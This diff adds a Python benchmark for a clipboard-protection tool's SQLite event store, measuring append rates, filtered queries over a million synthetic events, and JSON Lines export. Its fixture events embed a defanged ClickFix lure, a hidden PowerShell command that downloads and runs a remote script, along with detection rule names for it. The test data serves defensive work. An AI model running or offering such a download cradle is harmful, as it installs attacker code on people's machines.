@@ -1,0 +1,429 @@
+"""Event store: sustained appends, one filtered page among a million events, JSON Lines export."""
+
+from __future__ import annotations
+
+import json
+import sqlite3
+import statistics
+import tempfile
+import time
+from collections.abc import Callable
+from dataclasses import dataclass
+from datetime import UTC, datetime, timedelta
+from pathlib import Path
+
+from app.events import Event
+from app.storage import EventFilter, EventStore
+from app.storage.rows import to_us
+from bench.report import BenchError, Result, met, table
+
+APPENDS = 10_000
+APPEND_WARMUP = 500
+APPEND_TARGET = 10_000.0  # per second
+BIG = 1_000_000
+PAGE = 200
+PAGE_TARGET_MS = 50.0
+PAGE_RUNS = 5
+EXPORT = 100_000
+EXPORT_TARGET_S = 2.0
+END = datetime(2026, 6, 1, tzinfo=UTC)  # the newest event of the big database
+SPAN = timedelta(days=365)  # ... the oldest is a year older
+
+
+def _event(i: int, when: datetime) -> Event:
+    """A realistic flagged event: a ClickFix lure blocked in the Run dialog, varied by `i`."""
+    return Event(
+        kind=("clipboard_flagged", "paste_warned", "paste_blocked")[i % 3],
+        time=when,
+        level=("suspicious", "malicious")[i % 2],
+        score=60 + i % 40,
+        rules=("clickfix.run-dialog", "powershell.download-cradle"),
+        summary="A web page put a PowerShell download command on the clipboard",
+        source=f"hxxps://captcha-{i % 5000}[.]example/verify",
+        target=("run_dialog", "terminal", "browser_console")[i % 3],
+        action="blocked",
+        text=f'powershell -w hidden -c "iwr hxxps://cdn{i % 5000}[.]example/p{i}.ps1 | iex" '
+        f"# I am not a robot - Verification ID: {i}",
+        sha256=f"{i:064x}",
+        indicators=({"kind": "url", "value": f"https://cdn{i}.example/p.ps1", "display": "…"},),
+        findings=(
+            {
+                "rule_id": "powershell.download-cradle",
+                "title": "Downloads and runs a PowerShell script",
+                "explanation": "The command fetches a script from the internet and runs it "
+                "at once, the way ClickFix lures install stealers.",
+                "technique": "T1204.004",
+                "layer": 0,
+                "evidence": "iwr … | iex",
+            },
+        ),
+        details={"complete": True, "elapsed_ms": 0.05},
+        host="bench-host",
+        user="bench",
+    )
+
+
+# ----------------------------------------------------------------------------------------------
+# Appends
+# ----------------------------------------------------------------------------------------------
+
+
+@dataclass(frozen=True)
+class AppendTiming:
+    rate: float
+    p50_us: float
+    p99_us: float
+    max_us: float
+
+
+def time_appends(store: EventStore, count: int = APPENDS) -> AppendTiming:
+    """`count` appends one after another (each its own committed transaction), after a warm-up."""
+    now = datetime.now(UTC)
+    for i in range(APPEND_WARMUP):
+        store.append(_event(i, now))
+    events = [_event(i, now) for i in range(count)]
+    laps: list[float] = []
+    start = time.perf_counter()
+    for event in events:
+        lap = time.perf_counter_ns()
+        if store.append(event) is None:
+            raise BenchError(f"an append failed: {store.status['degraded']}")
+        laps.append((time.perf_counter_ns() - lap) / 1000)
+    total = time.perf_counter() - start
+    laps.sort()
+    return AppendTiming(
+        rate=count / total,
+        p50_us=laps[len(laps) // 2],
+        p99_us=laps[int(len(laps) * 0.99)],
+        max_us=laps[-1],
+    )
+
+
+def appends(empty: AppendTiming, full: AppendTiming) -> Result:
+    rows = [
+        [
+            name,
+            f"{t.rate:,.0f} /s",
+            f"{t.p50_us:.0f} µs",
+            f"{t.p99_us:.0f} µs",
+            f"{t.max_us / 1000:.1f} ms",
+            f"≥ {APPEND_TARGET:,.0f} /s",
+            met(t.rate >= APPEND_TARGET),
+        ]
+        for name, t in (("new store", empty), (f"store holding {BIG:,} events", full))
+    ]
+    notes = [
+        f"{APPENDS:,} `EventStore.append` calls in a row after {APPEND_WARMUP} warm-up calls, "
+        "each its own committed transaction (WAL, `synchronous=NORMAL`), one forwarding sink "
+        "configured; the events are built beforehand, their conversion to a row is timed.",
+    ]
+    return Result(
+        "Event store: sustained appends",
+        table(["store", "rate", "p50", "p99", "max", "target", "met?"], rows, "lrrrrlc"),
+        notes,
+    )
+
+
+# ----------------------------------------------------------------------------------------------
+# A million events
+# ----------------------------------------------------------------------------------------------
+
+# Pseudo-random but reproducible columns from a multiplicative hash of the row number.
+_FILL = """
+WITH RECURSIVE n(i) AS (SELECT 0 UNION ALL SELECT i + 1 FROM n WHERE i < :count - 1),
+-- A 32-bit integer hash (two multiply-xorshift rounds; SQLite has no XOR: a ^ b is
+-- (a | b) - (a & b)), so that level, kind and target vary independently of each other.
+h1(i, x) AS (SELECT i, ((i + 1) * 73244475) % 4294967296 FROM n),
+h2(i, x) AS (SELECT i, (((x | (x >> 16)) - (x & (x >> 16))) * 73244475) % 4294967296 FROM h1),
+h3(i, x) AS (SELECT i, (x | (x >> 16)) - (x & (x >> 16)) FROM h2),
+h(i, a, b, c) AS (SELECT i, x % 100, (x / 100) % 100, (x / 10000) % 7 FROM h3)
+INSERT INTO events (time, kind, level, score, rules, summary, source, target, action, text,
+                    sha256, indicators, findings, details, host, user, app_version)
+SELECT
+    :start + i * :step,
+    CASE WHEN b < 40 THEN 'clipboard_flagged' WHEN b < 65 THEN 'paste_warned'
+         WHEN b < 85 THEN 'paste_blocked' WHEN b < 94 THEN 'clipboard_neutralized'
+         WHEN b < 99 THEN 'started' ELSE 'error' END,
+    -- The level follows the kind, as in real logs: blocked pastes are never clean.
+    CASE WHEN b < 40 THEN (CASE WHEN a < 30 THEN 'info' WHEN a < 75 THEN 'suspicious'
+                                ELSE 'malicious' END)
+         WHEN b < 65 THEN 'suspicious' WHEN b < 94 THEN 'malicious' ELSE 'clean' END,
+    a,
+    '["clickfix.run-dialog","powershell.download-cradle"]',
+    'A web page put a PowerShell download command on the clipboard',
+    printf('hxxps://captcha-%d[.]example/verify', (i * 7) % 5000),
+    CASE c WHEN 0 THEN 'run_dialog' WHEN 1 THEN 'terminal' WHEN 2 THEN 'browser_console'
+           WHEN 3 THEN 'explorer_bar' WHEN 4 THEN 'other' WHEN 5 THEN 'unknown' ELSE NULL END,
+    'blocked',
+    CASE WHEN b < 94 THEN printf('powershell -w hidden -c "iwr hxxps://cdn%d[.]example/p%d.ps1'
+        || ' | iex" # I am not a robot - Verification ID: %d', (i * 13) % 5000, i, i) END,
+    printf('%064x', i),
+    printf('[{"kind":"url","value":"https://cdn%d.example/p.ps1"}]', i % 5000),
+    '[{"rule_id":"powershell.download-cradle","title":"Downloads and runs a PowerShell script",'
+    || '"explanation":"The command fetches a script from the internet and runs it at once, the '
+    || 'way ClickFix lures install stealers.","technique":"T1204.004","layer":0}]',
+    '{"complete":true,"elapsed_ms":0.05}',
+    'bench-host', 'bench', '0.1.0'
+FROM h
+"""
+
+
+def build_big(directory: Path, count: int = BIG) -> float:
+    """A store of `count` events over a year, filled by one INSERT ... SELECT; seconds taken.
+
+    The events' indexes and trigger are set aside meanwhile and made again after (building an
+    index at once is several times faster than growing it row by row), from the schema's own
+    SQL, and the facets table is filled as the trigger would have.
+    """
+    started = time.perf_counter()
+    EventStore.open(directory, verify=False).close()  # the real schema, by its migrations
+    conn = sqlite3.connect(directory / "events.db", isolation_level=None)
+    conn.execute("PRAGMA synchronous = OFF")  # a benchmark fixture: speed over durability
+    conn.execute("PRAGMA cache_size = -200000")
+    saved = conn.execute(
+        "SELECT type, name, sql FROM sqlite_master WHERE tbl_name = 'events' "
+        "AND type IN ('index', 'trigger') AND sql IS NOT NULL"
+    ).fetchall()
+    step = (to_us(END) - to_us(END - SPAN)) // count
+    conn.execute("BEGIN")
+    for kind, name, _sql in saved:
+        conn.execute(f"DROP {kind} {name}")
+    conn.execute(_FILL, {"count": count, "start": to_us(END - SPAN), "step": step})
+    for _kind, _name, sql in saved:
+        conn.execute(sql)
+    conn.execute("INSERT OR IGNORE INTO facets SELECT DISTINCT level, kind, target FROM events")
+    conn.execute("COMMIT")
+    conn.execute("PRAGMA wal_checkpoint(TRUNCATE)")
+    conn.close()
+    return time.perf_counter() - started
+
+
+@dataclass(frozen=True)
+class PageCase:
+    name: str
+    filter: EventFilter
+    before: Callable[[EventStore], int | None] = lambda store: None
+
+
+def _deep(store: EventStore) -> int | None:
+    """The id of the 50,000th newest malicious event: the page after it is 250 pages deep."""
+    page = store.query(EventFilter(levels=frozenset({"malicious"})), limit=1)
+    if not page or page[0].id is None:
+        return None
+    return page[0].id - 170_000
+
+
+PAGE_CASES = [
+    PageCase("newest, no filter", EventFilter()),
+    PageCase("level = malicious", EventFilter(levels=frozenset({"malicious"}))),
+    PageCase(
+        "level ∈ {suspicious, malicious}, last 7 days",
+        EventFilter(levels=frozenset({"suspicious", "malicious"}), since=END - timedelta(days=7)),
+    ),
+    PageCase(
+        "kind = paste_blocked, target = run_dialog",
+        EventFilter(kinds=frozenset({"paste_blocked"}), targets=frozenset({"run_dialog"})),
+    ),
+    PageCase("kind = error (1 %)", EventFilter(kinds=frozenset({"error"}))),
+    PageCase(
+        "kinds ∈ {error, started}, level = clean",
+        EventFilter(kinds=frozenset({"error", "started"}), levels=frozenset({"clean"})),
+    ),
+    PageCase(
+        "level = clean, kind = paste_blocked (none)",
+        EventFilter(levels=frozenset({"clean"}), kinds=frozenset({"paste_blocked"})),
+    ),
+    PageCase(
+        "levels {clean, info} × kinds {blocked, warned} (none)",
+        EventFilter(
+            levels=frozenset({"clean", "info"}), kinds=frozenset({"paste_blocked", "paste_warned"})
+        ),
+    ),
+    PageCase(
+        "one week, 200 days ago",
+        EventFilter(since=END - timedelta(days=207), until=END - timedelta(days=200)),
+    ),
+    PageCase(
+        "level = info, 2 targets, last 90 days",
+        EventFilter(
+            levels=frozenset({"info"}),
+            targets=frozenset({"terminal", "browser_console"}),
+            since=END - timedelta(days=90),
+        ),
+    ),
+    PageCase(
+        "level = malicious, 250 pages deep", EventFilter(levels=frozenset({"malicious"})), _deep
+    ),
+]
+
+SEARCH_CASES = [
+    ("search a common word (`powershell`)", EventFilter(search="PowerShell")),
+    ("search a rare string (1 match)", EventFilter(search='Verification ID: 123456"')),
+    ("search a string found nowhere", EventFilter(search="no-such-text-anywhere")),
+    (
+        "search `cdn42[` + level = malicious",
+        EventFilter(search="cdn42[", levels=frozenset({"malicious"})),
+    ),
+]
+
+
+def _time_ms(fn: Callable[[], object], runs: int = PAGE_RUNS) -> tuple[float, float, object]:
+    """(first run, median of the others) in ms, and the first run's result."""
+    start = time.perf_counter()
+    first = fn()
+    first_ms = (time.perf_counter() - start) * 1000
+    laps = []
+    for _ in range(runs):
+        start = time.perf_counter()
+        fn()
+        laps.append((time.perf_counter() - start) * 1000)
+    return first_ms, statistics.median(laps), first
+
+
+def pages(store: EventStore, build_s: float, open_s: float) -> Result:
+    rows = []
+    worst = 0.0
+    for case in PAGE_CASES:
+        before = case.before(store)
+        first, median, got = _time_ms(lambda c=case, b=before: store.query(c.filter, PAGE, b))
+        assert isinstance(got, list)
+        worst = max(worst, first, median)
+        rows.append(
+            [
+                case.name,
+                len(got),
+                f"{first:.1f} ms",
+                f"{median:.1f} ms",
+                f"≤ {PAGE_TARGET_MS:.0f} ms",
+                met(max(first, median) <= PAGE_TARGET_MS),
+            ]
+        )
+    for name, f in SEARCH_CASES:
+        first, median, got = _time_ms(lambda f=f: store.query(f, PAGE), runs=2)
+        assert isinstance(got, list)
+        rows.append([name, len(got), f"{first:.1f} ms", f"{median:.1f} ms", "", met(None)])
+    for name, fn in (
+        (
+            "count(level = malicious)",
+            lambda: store.count(EventFilter(levels=frozenset({"malicious"}))),
+        ),
+        (
+            "counts_by_day, last 30 days",
+            lambda: store.counts_by_day(EventFilter(since=END - timedelta(days=30))),
+        ),
+        ("counts_by_day, whole year", lambda: store.counts_by_day()),
+    ):
+        first, median, got = _time_ms(fn, runs=2)
+        size = got if isinstance(got, int) else len(got) if isinstance(got, list) else ""
+        rows.append([name, size, f"{first:.1f} ms", f"{median:.1f} ms", "", met(None)])
+    notes = [
+        f"`EventStore.query(filter, limit={PAGE})` on a store of {BIG:,} events spread over a "
+        "year, newest first: six kinds (40 % flagged, 25 % warned, 20 % blocked, 9 % "
+        "neutralised, 5 % started, 1 % error), the level following the kind as in real logs "
+        "(43 % suspicious, 39 % malicious, 12 % info, 6 % clean; blocked is never clean), "
+        "seven targets (one of them none). *first* is the first call on a freshly opened "
+        f"store, *median* the median of the next {PAGE_RUNS}; the file is in the OS cache.",
+        "Free-text search is a case-insensitive `LIKE` over summary, text, source and rules "
+        "(no full-text index, so that deleted text leaves no trace in one): a word on many "
+        "events fills a page at once, a rare string scans the whole table. Rows without a "
+        "target are shown n/a.",
+        f"Building the store took {build_s:.1f} s (one `INSERT … SELECT`); opening it with "
+        f"`PRAGMA quick_check` took {open_s:.2f} s. Worst page: {worst:.1f} ms.",
+    ]
+    return Result(
+        f"Event store: one filtered page of {PAGE} among {BIG:,} events",
+        table(["filter", "rows", "first", "median", "target", "met?"], rows, "lrrrlc"),
+        notes,
+    )
+
+
+def _export_events(store: EventStore, f: EventFilter, out: Path) -> int:
+    """What `pasteguard export --format jsonl` does: Events, their records, json.dumps."""
+    count = 0
+    with out.open("w", encoding="utf-8") as handle:
+        for event in store.iter_events(f):
+            handle.write(json.dumps(event.to_record(), ensure_ascii=False) + "\n")
+            count += 1
+    return count
+
+
+def _export_jsonl(store: EventStore, f: EventFilter, out: Path) -> int:
+    """The same records, with SQLite building the JSON (`EventStore.iter_jsonl`)."""
+    count = 0
+    with out.open("w", encoding="utf-8") as handle:
+        for line in store.iter_jsonl(f):
+            handle.write(line + "\n")
+            count += 1
+    return count
+
+
+def _read_events(store: EventStore, f: EventFilter, out: Path) -> int:
+    """Only reading the Events (the file is left empty)."""
+    out.write_text("")
+    return sum(1 for _ in store.iter_events(f))
+
+
+def export(store: EventStore, directory: Path) -> Result:
+    """Export the newest EXPORT events to JSON Lines, both ways."""
+    newest = store.query(limit=1)[0]
+    assert newest.id is not None
+    boundary = store.get(newest.id - EXPORT + 1)
+    if boundary is None:
+        raise BenchError("the big store lacks the events to export")
+    f = EventFilter(since=boundary.time)
+    rows = []
+    for name, how, judged in (
+        ("`iter_events` → `to_record()` → `json.dumps`", _export_events, True),
+        ("`iter_jsonl` (SQLite writes the JSON)", _export_jsonl, True),
+        ("`iter_events` alone: the store's part of row 1", _read_events, False),
+    ):
+        out = directory / "export.jsonl"
+        start = time.perf_counter()
+        count = how(store, f, out)
+        elapsed = time.perf_counter() - start
+        rows.append(
+            [
+                name,
+                f"{count:,}",
+                f"{out.stat().st_size / 1e6:.0f} MB",
+                f"{elapsed:.2f} s",
+                f"{count / elapsed:,.0f} /s",
+                f"≤ {EXPORT_TARGET_S:.0f} s" if judged else "",
+                met(count == EXPORT and elapsed <= EXPORT_TARGET_S) if judged else met(None),
+            ]
+        )
+    notes = [
+        f"The newest {EXPORT:,} of the {BIG:,} events (a `since` filter), read oldest first "
+        "in batches of 1,000 and written as JSON Lines with the keys of `Event.to_record()`. "
+        "The first row is what `pasteguard export --format jsonl` does today; the third "
+        "shows how much of it is the store reading and decoding the events, the rest being "
+        "`to_record()` and `json.dumps`. The second row leaves building the JSON to "
+        "SQLite's JSON functions (the same records, with compact separators).",
+    ]
+    return Result(
+        "Event store: export to JSON Lines",
+        table(["how", "events", "file", "time", "rate", "target", "met?"], rows, "lrrrrlc"),
+        notes,
+    )
+
+
+def store_sections() -> list[Result]:
+    with tempfile.TemporaryDirectory(prefix="pasteguard-bench-") as tmp:
+        root = Path(tmp)
+        with EventStore.open(root / "new", sinks=["syslog"]) as store:
+            empty = time_appends(store)
+        build_s = build_big(root / "big")
+        start = time.perf_counter()
+        store = EventStore.open(root / "big", max_events=2 * BIG)
+        open_s = time.perf_counter() - start
+        try:
+            page_result = pages(store, build_s, open_s)
+            export_result = export(store, root)
+            store.set_sinks(["syslog"])
+            full = time_appends(store)
+        finally:
+            store.close()
+    return [appends(empty, full), page_result, export_result]
+
+
+run = store_sections  # the name bench/__main__.py expects of a section
